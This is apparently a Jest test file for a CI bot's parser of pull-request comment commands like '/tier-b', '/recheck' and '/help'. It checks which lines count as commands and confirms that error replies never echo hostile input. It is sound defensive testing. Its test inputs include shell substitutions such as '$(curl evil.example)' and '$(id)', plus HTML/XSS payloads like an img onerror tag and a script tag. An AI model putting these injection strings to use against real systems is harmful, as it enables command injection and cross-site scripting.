import { describe, expect, test } from "@jest/globals";
import { commandLines, parseComment, type CommentCommand } from "../../../src/core/commands/parse.js";
import { renderHelp, renderUsage } from "../../../src/core/commands/help.js";
import { aRegistry } from "../../fixtures/tierb/registry.js";
import { narrow } from "../../support/narrow.js";

const registry = aRegistry();
const parse = (body: string): CommentCommand => parseComment(body, registry);

describe("parseComment finds commands only on whole, live lines", () => {
  test.each([
    ["a bare bundle", "/tier-b hot_path_min", { kind: "tier-b", bundle: "hot_path_min" }],
    ["after prose", "Looks good.\n\n/tier-b full\nthanks", { kind: "tier-b", bundle: "full" }],
    ["CRLF line ends", "hi\r\n/tier-b full\r\n", { kind: "tier-b", bundle: "full" }],
    ["lone CR line ends", "hi\r/recheck\r", { kind: "recheck" }],
    ["indented 3 spaces", "   /help", { kind: "help" }],
    ["trailing spaces", "/recheck   ", { kind: "recheck" }],
    ["single gate", "/tier-b single b200:big_8x20", { kind: "tier-b", bundle: "single", singleGate: "b200:big_8x20" }],
    [
      "options in either order",
      "/tier-b full budget=-10 baseline=origin/main",
      { kind: "tier-b", bundle: "full", baselineRef: "origin/main", budgetPct: -10 },
    ],
    [
      "options the other way",
      "/tier-b full baseline=v1.2.3 budget=+5.5",
      { kind: "tier-b", bundle: "full", baselineRef: "v1.2.3", budgetPct: 5.5 },
    ],
    [
      "single with options",
      "/tier-b single perf:baseline_delta baseline=abc1234 budget=0",
      { kind: "tier-b", bundle: "single", singleGate: "perf:baseline_delta", baselineRef: "abc1234", budgetPct: 0 },
    ],
    ["cancel", "/tier-b cancel", { kind: "tier-b-cancel" }],
    ["tabs between words", "/tier-b\tfull", { kind: "tier-b", bundle: "full" }],
    ["the first command wins", "/recheck\n/tier-b full", { kind: "recheck" }],
    ["a command after a closed fence", "```\n/tier-b full\n```\n/help", { kind: "help" }],
    ["a command after a closed HTML comment", "<!--\n/tier-b full\n-->\n/help", { kind: "help" }],
    ["upper-case command word", "/Tier-B full", { kind: "tier-b", bundle: "full" }],
  ])("%s", (_name, body, command) => {
    expect(parse(body)).toEqual({ kind: "command", command });
  });

  test.each([
    ["no command", "LGTM"],
    ["a command mid-sentence", "please run /tier-b full"],
    ["a backtick fence", "```\n/tier-b full\n```"],
    ["a tilde fence", "~~~sh\n/tier-b full\n~~~"],
    ["an unclosed fence", "```\n/tier-b full"],
    ["a longer fence closed only by a long enough one", "````\n```\n/tier-b full\n````"],
    ["a fence indented 3 spaces", "   ```\n/tier-b full\n   ```"],
    ["a quote", "> /tier-b full"],
    ["a nested quote", "> > /tier-b full"],
    ["an HTML comment on one line", "<!-- /tier-b full -->"],
    ["a multi-line HTML comment", "<!--\nhidden\n/tier-b full\n-->"],
    ["an unclosed HTML comment", "<!--\n/tier-b full"],
    ["indented 4 spaces", "    /tier-b full"],
    ["indented by a tab", "\t/tier-b full"],
    ["someone else's command", "/assign @me"],
    ["a path", "/tmp/tier-b full"],
    ["a lone slash", "/"],
    ["a zero-width space before the slash", "\u200b/tier-b full"],
    ["a no-break space before the slash", "\u00a0/tier-b full"],
  ])("ignores %s", (_name, body) => {
    expect(parse(body)).toEqual({ kind: "none" });
  });
});

describe("usage errors say what is valid without echoing the line", () => {
  test.each([
    ["no target", "/tier-b", "tier-b.missing-target"],
    ["unknown bundle", "/tier-b hot_path", "tier-b.unknown-bundle"],
    ["single without a gate", "/tier-b single", "tier-b.missing-gate"],
    ["single with an option instead of a gate", "/tier-b single budget=5", "tier-b.missing-gate"],
    ["unknown gate", "/tier-b single b200:nope", "tier-b.unknown-gate"],
    ["a Tier-A gate", "/tier-b single cpu:import", "tier-b.not-tier-b"],
    ["unknown option", "/tier-b full budgte=5", "tier-b.bad-argument"],
    ["a stray word", "/tier-b full please", "tier-b.extra-words"],
    ["a second bundle", "/tier-b full hot_path_min", "tier-b.extra-words"],
    ["cancel with words", "/tier-b cancel now", "tier-b.extra-words"],
    ["recheck with words", "/recheck please", "tier-b.extra-words"],
    ["duplicate budget", "/tier-b full budget=1 budget=2", "tier-b.duplicate-argument"],
    ["duplicate baseline", "/tier-b full baseline=a baseline=b", "tier-b.duplicate-argument"],
    ["baseline with ..", "/tier-b full baseline=main..evil", "tier-b.bad-baseline"],
    ["baseline starting with -", "/tier-b full baseline=-x", "tier-b.bad-baseline"],
    ["empty baseline", "/tier-b full baseline=", "tier-b.bad-baseline"],
    ["baseline with a shell", "/tier-b full baseline=$(id)", "tier-b.bad-baseline"],
    ["budget not a number", "/tier-b full budget=ten", "tier-b.bad-budget"],
    ["budget too low", "/tier-b full budget=-101", "tier-b.bad-budget"],
    ["budget too high", "/tier-b full budget=1000.5", "tier-b.bad-budget"],
    ["budget in exponent form", "/tier-b full budget=1e2", "tier-b.bad-budget"],
    ["budget Infinity", "/tier-b full budget=Infinity", "tier-b.bad-budget"],
    ["misspelt /tierb", "/tierb full", "command.misspelt"],
    ["misspelt /tier_b", "/tier_b full", "command.misspelt"],
    ["misspelt /teir-b", "/teir-b full", "command.misspelt"],
    ["misspelt /tier-a", "/tier-a full", "command.misspelt"],
    ["misspelt /hlep", "/hlep", "command.misspelt"],
    ["misspelt /rechek", "/rechek", "command.misspelt"],
    ["prow's /retest", "/retest", "command.misspelt"],
  ])("%s", (_name, body, code) => {
    expect(narrow(parse(body), "kind", "usage").error.code).toBe(code);
  });

  test("the budget bounds themselves are accepted", () => {
    expect(parse("/tier-b full budget=-100")).toMatchObject({ kind: "command", command: { budgetPct: -100 } });
    expect(parse("/tier-b full budget=1000")).toMatchObject({ kind: "command", command: { budgetPct: 1000 } });
  });

  test("a near bundle name is suggested", () => {
    const r = parse("/tier-b hot_path_mni");
    expect(r).toMatchObject({ kind: "usage", error: { suggestions: ["hot_path_min"] } });
  });

  test("the misspelt command names the right one", () => {
    expect(parse("/teir-b full")).toMatchObject({
      kind: "usage",
      error: { message: expect.stringContaining("`/tier-b`") },
    });
  });

  test.each([
    ["a shell substitution", "/tier-b $(curl evil.example)", ["$(", "curl", "evil"]],
    ["an img tag", "/tier-b <img src=x onerror=alert(1)>", ["<img", "onerror"]],
    ["a mention", "/tier-b @everyone", ["@everyone"]],
    ["a link", "/tier-b [x](https://evil.example)", ["evil.example", "]("]],
    ["a gate with markup", "/tier-b single <script>x</script>", ["<script"]],
    ["an option with markup", "/tier-b full <b>=1", ["<b>"]],
    ["a misspelt command with markup", "/tierb <img src=x>", ["<img"]],
    ["a huge token", "/tier-b " + "A".repeat(500), ["A".repeat(65)]],
  ])("hostile input is not echoed: %s", (_name, body, forbidden) => {
    const r = parse(body);
    expect(r.kind).toBe("usage");
    if (r.kind !== "usage") return;
    const reply = renderUsage(r.error, registry);
    for (const f of forbidden) expect(reply).not.toContain(f);
    expect(reply).toContain("`hot_path_min`");
    expect(reply).toContain("`b200:big_8x20`");
  });

  test("a safe unknown bundle is named, so the commenter sees which word was wrong", () => {
    const r = parse("/tier-b hot_path");
    expect(r.kind === "usage" && r.error.message).toContain("`hot_path`");
  });

  test("the usage reply lists bundles and only Tier-B gates", () => {
    const r = parse("/tier-b nope");
    const reply = r.kind === "usage" ? renderUsage(r.error, registry) : "";
    expect(reply).toContain("`full`");
    expect(reply).toContain("`perf:baseline_delta`");
    expect(reply).not.toContain("cpu:import");
  });
});

describe("help", () => {
  test("lists every command, bundle and Tier-B gate", () => {
    const text = renderHelp(registry);
    for (const s of [
      "/tier-b <bundle>",
      "/tier-b single",
      "/tier-b cancel",
      "/recheck",
      "/help",
      "baseline=",
      "budget=",
      "`hot_path_min`",
      "`zero2:resume`",
    ])
      expect(text).toContain(s);
    expect(text).not.toContain("cpu:compileall");
  });

  test("a bundle named `single` is not offered, since `single` is the one-gate mode", () => {
    const text = renderHelp(aRegistry({ bundles: [["single", ["b200:big_8x20"]]] }));
    expect(text).not.toContain("`single`,");
  });
});

describe("commandLines", () => {
  test("keeps live lines in order and drops the rest", () => {
    const body = [
      "/a",
      "```",
      "/b",
      "```",
      "> /c",
      "<!-- /d",
      "/e -->",
      "/f",
      "    /g",
      "~~~~",
      "/h",
      "~~~",
      "/i",
      "~~~~",
      "/j",
    ].join("\n");
    expect(commandLines(body)).toEqual(["/a", "/f", "/j"]);
  });
});
